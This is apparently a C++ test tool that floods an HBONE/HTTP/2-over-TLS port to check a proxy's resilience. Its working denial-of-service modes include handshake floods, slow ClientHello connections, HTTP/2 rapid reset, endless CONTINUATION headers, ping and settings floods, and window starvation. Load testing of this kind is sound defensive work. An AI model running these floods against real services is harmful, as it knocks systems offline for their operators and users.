// An attacker on HBONE's port, for tests that look at whom it harms. Prints one JSON line of what it did.
//   flood MODE HOST:PORT --seconds S [--threads N] [--count N] [--cert FILE --key FILE] [--authority HOST:PORT]
// Without a certificate:
//   handshakes    TLS handshakes without a certificate, one behind the other, each to its end
//   slow          `count` connections that send a byte of a ClientHello now and then
// With one, over as many tunnels as it takes, each until the peer cuts it:
//   rapid-reset   CONNECTs taken back at once         ping, settings   frames that ask for an answer
//   continuation  a head that never ends              window-one       streams that are let go on byte by byte
//   hoard         as much as the windows allow, for an application that takes nothing; the tunnels stay
// It never answers and reads only so that its own writes go on.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

struct Options {
  std::string mode, certificate, key, authority;
  sockaddr_in target{};
  int seconds = 2, threads = 2, count = 600;
  Clock::time_point until;
};

struct Tally {
  std::atomic<uint64_t> connections{0};  // TCP
  std::atomic<uint64_t> tunnels{0};      // TLS too
  std::atomic<uint64_t> refused{0};      // ended by the peer before that
  std::atomic<uint64_t> cut{0};          // ... afterwards
  std::atomic<uint64_t> frames{0}, bytes{0};
};

bool time_left(const Options& options) {
  return Clock::now() < options.until;
}

int connect_to(const Options& options, Tally& tally) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const timeval limit{.tv_sec = 1, .tv_usec = 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  // Ports are what runs out first otherwise.
  const linger hard{.l_onoff = 1, .l_linger = 0};
  setsockopt(fd, SOL_SOCKET, SO_LINGER, &hard, sizeof hard);
  if (connect(fd, reinterpret_cast<const sockaddr*>(&options.target), sizeof options.target) == 0) {
    ++tally.connections;
    return fd;
  }
  ++tally.refused;
  close(fd);
  return -1;
}

// ---- HTTP/2 by hand: the frames that a library would not send

enum FrameType : uint8_t { kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kPing = 6, kWindowUpdate = 8, kContinuation = 9 };
constexpr uint8_t kAck = 1, kEndHeaders = 4;

std::string number(uint32_t value) {
  const uint32_t wire = htonl(value);
  return {reinterpret_cast<const char*>(&wire), 4};
}

std::string frame(FrameType type, uint8_t flags, uint32_t stream, std::string_view payload) {
  std::string out = number(static_cast<uint32_t>(payload.size())).substr(1);
  out += static_cast<char>(type);
  out += static_cast<char>(flags);
  return out.append(number(stream)).append(payload);
}

// HPACK, literals without indexing: :method CONNECT and :authority.
std::string connect_head(const std::string& authority) {
  std::string head = "\x02\x07" "CONNECT" "\x01";
  head += static_cast<char>(authority.size());
  return head + authority;
}

// One setting: INITIAL_WINDOW_SIZE.
std::string settings(uint32_t window) {
  return frame(kSettings, 0, 0, std::string("\0\x04", 2) + number(window));
}

// The frames of one mode, block by block, for one tunnel.
class Source {
 public:
  explicit Source(const Options& options) : mode_(options.mode), head_(connect_head(options.authority)) {}

  [[nodiscard]] std::string opening() const {
    return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings(mode_ == "window-one" ? 1 : 1 << 20);
  }
  // Empty: no more. Adds to `frames` what is in it.
  std::string next(uint64_t& frames) {
    std::string block;
    while (block.size() < kBlock) {
      if (mode_ == "ping") block += frame(kPing, 0, 0, "01234567");
      if (mode_ == "settings") block += settings(65535);
      if (mode_ == "rapid-reset") {
        block += frame(kHeaders, kEndHeaders, stream_, head_) + frame(kReset, 0, stream_, number(8));
        stream_ += 2;
      }
      if (mode_ == "continuation") block += endless_head();
      if (mode_ == "window-one") block += crumb();
      if (mode_ == "hoard" && asked_ > kHoards * 65) return block;
      if (mode_ == "hoard") block += hoard();
      ++frames;
    }
    return block;
  }

 private:
  static constexpr size_t kBlock = 16 * 1024;
  static constexpr uint32_t kStreams = 100, kHoards = 15;

  std::string endless_head() {
    const bool first = std::exchange(first_, false);
    return frame(first ? kHeaders : kContinuation, 0, 1, first ? head_ : std::string("\0\x01x\x01y", 5));
  }
  // A hundred streams that are sent 32 KiB each, whose echo may then come back byte by byte.
  std::string crumb() {
    const uint32_t stream = stream_;
    stream_ = stream_ == 2 * kStreams - 1 ? 1 : stream_ + 2;
    if (asked_ < kStreams) {
      ++asked_;
      return frame(kHeaders, kEndHeaders, stream, head_);
    }
    if (asked_ < 3 * kStreams) {
      ++asked_;
      return frame(kData, 0, stream, std::string(16 * 1024, 'e'));
    }
    return frame(kWindowUpdate, 0, stream, number(1));
  }

  // A MiB on each of a few streams: less than the window of the whole tunnel.
  std::string hoard() {
    const uint32_t stream = 1 + 2 * (asked_ % kHoards);
    return asked_++ < kHoards ? frame(kHeaders, kEndHeaders, stream, head_)
                              : frame(kData, 0, stream, std::string(16 * 1024, 'h'));
  }

  const std::string mode_, head_;
  uint32_t stream_ = 1, asked_ = 0;
  bool first_ = true;
};

// ---- tunnels

class Link {
 public:
  Link(const Options& options, Tally& tally, SSL_CTX* context) : options_(options), tally_(tally) {
    fd_ = connect_to(options, tally);
    if (fd_ < 0) return;
    ssl_ = SSL_new(context);
    SSL_set_fd(ssl_, fd_);
  }
  ~Link() {
    SSL_free(ssl_);
    if (fd_ >= 0) close(fd_);
  }
  Link(const Link&) = delete;
  Link& operator=(const Link&) = delete;

  bool shake_hands() {
    if (ssl_ != nullptr && SSL_connect(ssl_) == 1) return true;
    if (ssl_ != nullptr) ++tally_.refused;
    return false;
  }
  // What the peer thinks of it comes behind a handshake of TLS 1.3.
  void hear_verdict() {
    char byte;
    if (SSL_read(ssl_, &byte, 1) <= 0) ++tally_.refused;
  }
  // What comes within `wait` is dropped. False when the peer has closed.
  bool drain(std::chrono::milliseconds wait = {}) {
    fcntl(fd_, F_SETFL, O_NONBLOCK);
    char block[16384];
    for (const auto until = Clock::now() + wait;;) {
      const int n = SSL_read(ssl_, block, sizeof block);
      if (n > 0) {
        tally_.bytes += static_cast<uint64_t>(n);
        continue;
      }
      if (SSL_get_error(ssl_, n) != SSL_ERROR_WANT_READ) return false;
      const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(until - Clock::now()).count();
      pollfd p{.fd = fd_, .events = POLLIN, .revents = 0};
      if (left <= 0 || poll(&p, 1, static_cast<int>(left)) <= 0) return true;
    }
  }
  bool send(std::string_view bytes) {
    while (!bytes.empty() && time_left(options_)) {
      const int n = SSL_write(ssl_, bytes.data(), static_cast<int>(bytes.size()));
      if (n > 0) {
        bytes.remove_prefix(static_cast<size_t>(n));
        continue;
      }
      const int error = SSL_get_error(ssl_, n);
      if (error != SSL_ERROR_WANT_WRITE && error != SSL_ERROR_WANT_READ) return false;
      if (!drain()) return false;
      pollfd p{.fd = fd_, .events = POLLOUT | POLLIN, .revents = 0};
      poll(&p, 1, 50);
    }
    return drain();
  }

 private:
  const Options& options_;
  Tally& tally_;
  int fd_ = -1;
  SSL* ssl_ = nullptr;
};

SSL_CTX* make_context(const Options& options) {
  SSL_CTX* const context = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_mode(context, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  SSL_CTX_set_min_proto_version(context, TLS1_3_VERSION);
  SSL_CTX_set_alpn_protos(context, reinterpret_cast<const uint8_t*>("\x02h2"), 3);
  if (options.certificate.empty()) return context;
  if (SSL_CTX_use_certificate_chain_file(context, options.certificate.c_str()) != 1 ||
      SSL_CTX_use_PrivateKey_file(context, options.key.c_str(), SSL_FILETYPE_PEM) != 1) {
    std::fprintf(stderr, "flood: no certificate\n");
    std::exit(2);
  }
  return context;
}

void pause_after_refusal() {
  std::this_thread::sleep_for(std::chrono::milliseconds(1));
}

void handshakes(const Options& options, Tally& tally, SSL_CTX* context) {
  while (time_left(options)) {
    Link link(options, tally, context);
    if (!link.shake_hands()) continue;
    ++tally.tunnels;
    link.hear_verdict();
  }
}

// Until the peer cuts it or there is no more; true then.
bool use(Link& link, const Options& options, Tally& tally) {
  Source source(options);
  // The peer's SETTINGS and windows hold from our acknowledgement on; without them it would be right to cut us.
  bool alive = link.send(source.opening()) && link.drain(std::chrono::milliseconds(30)) &&
               link.send(frame(kSettings, kAck, 0, ""));
  while (alive && time_left(options)) {
    uint64_t sent = 0;
    const std::string block = source.next(sent);
    if (block.empty()) return true;
    alive = link.send(block);
    tally.frames += sent;
  }
  if (!alive) ++tally.cut;
  return false;
}

void frames(const Options& options, Tally& tally, SSL_CTX* context) {
  std::vector<std::unique_ptr<Link>> kept;
  while (time_left(options)) {
    auto link = std::make_unique<Link>(options, tally, context);
    if (!link->shake_hands()) {
      pause_after_refusal();
      continue;
    }
    ++tally.tunnels;
    if (use(*link, options, tally)) kept.push_back(std::move(link));
  }
}

// Opens them as fast as it can, keeps them alive for the whole time, replaces those that the peer ended.
void slow(const Options& options, Tally& tally) {
  const std::string_view hello("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
  std::map<int, size_t> sent;  // socket -> bytes
  while (time_left(options)) {
    for (int n = 0; n < 100 && sent.size() < static_cast<size_t>(options.count) && time_left(options); ++n) {
      const int fd = connect_to(options, tally);
      if (fd >= 0) sent.emplace(fd, 0);
    }
    for (auto next = sent.begin(); next != sent.end();) {
      auto& [fd, done] = *next;
      char ignored;
      const ssize_t got = recv(fd, &ignored, 1, MSG_DONTWAIT);
      const bool over = got == 0 || (got < 0 && errno != EAGAIN);
      if (!over && done < hello.size()) done += send(fd, &hello[done], 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1;
      if (over) ++tally.cut;
      if (over) close(fd);
      next = over ? sent.erase(next) : std::next(next);
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
}

bool parse(int argc, char** argv, Options& options) {
  if (argc < 3) return false;
  options.mode = argv[1];
  const std::string target = argv[2];
  const size_t colon = target.rfind(':');
  options.target.sin_family = AF_INET;
  options.target.sin_port = htons(static_cast<uint16_t>(std::atoi(target.c_str() + colon + 1)));
  if (inet_pton(AF_INET, target.substr(0, colon).c_str(), &options.target.sin_addr) != 1) return false;
  for (int i = 3; i + 1 < argc; i += 2) {
    const std::string name = argv[i], value = argv[i + 1];
    if (name == "--seconds") options.seconds = std::atoi(value.c_str());
    if (name == "--threads") options.threads = std::atoi(value.c_str());
    if (name == "--count") options.count = std::atoi(value.c_str());
    if (name == "--cert") options.certificate = value;
    if (name == "--key") options.key = value;
    if (name == "--authority") options.authority = value;
  }
  options.until = Clock::now() + std::chrono::seconds(options.seconds);
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  signal(SIGPIPE, SIG_IGN);
  Options options;
  if (!parse(argc, argv, options)) {
    std::fprintf(stderr, "usage: see the source\n");
    return 2;
  }
  Tally tally;
  SSL_CTX* const context = make_context(options);
  std::vector<std::thread> threads;
  if (options.mode == "slow") slow(options, tally);
  for (int i = 0; i < options.threads && options.mode != "slow"; ++i)
    threads.emplace_back(options.mode == "handshakes" ? handshakes : frames, std::cref(options), std::ref(tally), context);
  for (auto& thread : threads) thread.join();
  std::printf(R"({"connections":%lu,"tunnels":%lu,"refused":%lu,"cut":%lu,"frames":%lu,"bytes":%lu})" "\n",
              tally.connections.load(), tally.tunnels.load(), tally.refused.load(), tally.cut.load(),
              tally.frames.load(), tally.bytes.load());
  return 0;
}
